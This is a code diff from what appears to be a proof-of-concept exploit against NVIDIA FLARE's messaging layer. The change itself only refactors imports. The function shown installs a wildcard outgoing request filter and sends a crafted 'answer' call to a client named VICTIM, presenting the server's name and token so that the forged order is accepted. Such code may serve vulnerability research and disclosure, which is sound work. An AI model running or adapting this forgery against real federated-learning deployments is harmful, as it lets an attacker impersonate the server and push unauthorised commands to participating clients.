@@ -100,9 +100,9 @@ def listen(cell: Any, tokens: dict[str, Any]) -> None:
 
 def forged(collab: Any, calls: list[bytes], seal: Any, tokens: dict[str, Any]) -> list[str]:
     """Send the last of the orders with the server's name and token; the answer, if any, goes to the server."""
-    from nvflare.collab.runtime.defs import CALL_PROTOCOL_VERSION, MSG_CHANNEL, MSG_TOPIC, CallHeaderKey, ObjectCallKey
-    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
-    from nvflare.fuel.f3.cellnet.utils import new_cell_message
+    from nvflare.collab.runtime import defs  # pyright: ignore[reportMissingImports]
+    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey  # pyright: ignore[reportMissingImports]
+    from nvflare.fuel.f3.cellnet.utils import new_cell_message  # pyright: ignore[reportMissingImports]
 
     cell, job = collab.fl_ctx.get_engine().get_cell(), collab.fl_ctx.get_job_id()
     name, order = orders(calls, seal)[-1]
@@ -114,18 +114,18 @@ def forged(collab: Any, calls: list[bytes], seal: Any, tokens: dict[str, Any]) -
 
     cell.core_cell.add_outgoing_request_filter(channel="*", topic="*", cb=forge)
     head = {
-        CallHeaderKey.PROTOCOL_VERSION: CALL_PROTOCOL_VERSION,
-        CallHeaderKey.TARGET_NAME: f"{VICTIM}.client",
-        CallHeaderKey.METHOD_NAME: "answer",
+        defs.CallHeaderKey.PROTOCOL_VERSION: defs.CALL_PROTOCOL_VERSION,
+        defs.CallHeaderKey.TARGET_NAME: f"{VICTIM}.client",
+        defs.CallHeaderKey.METHOD_NAME: "answer",
     }
     body = {
-        ObjectCallKey.TARGET_NAME: f"{VICTIM}.client",
-        ObjectCallKey.METHOD_NAME: "answer",
-        ObjectCallKey.KWARGS: {"data": order},
+        defs.ObjectCallKey.TARGET_NAME: f"{VICTIM}.client",
+        defs.ObjectCallKey.METHOD_NAME: "answer",
+        defs.ObjectCallKey.KWARGS: {"data": order},
     }
     request = new_cell_message(head, body)
     reply = cell.send_request(
-        channel=MSG_CHANNEL, target=f"{VICTIM}.{job}", topic=MSG_TOPIC, request=request, timeout=5.0
+        channel=defs.MSG_CHANNEL, target=f"{VICTIM}.{job}", topic=defs.MSG_TOPIC, request=request, timeout=5.0
     )
     return [f"sent {name} as {tokens.get('client_name')}: {reply.headers}"]
 
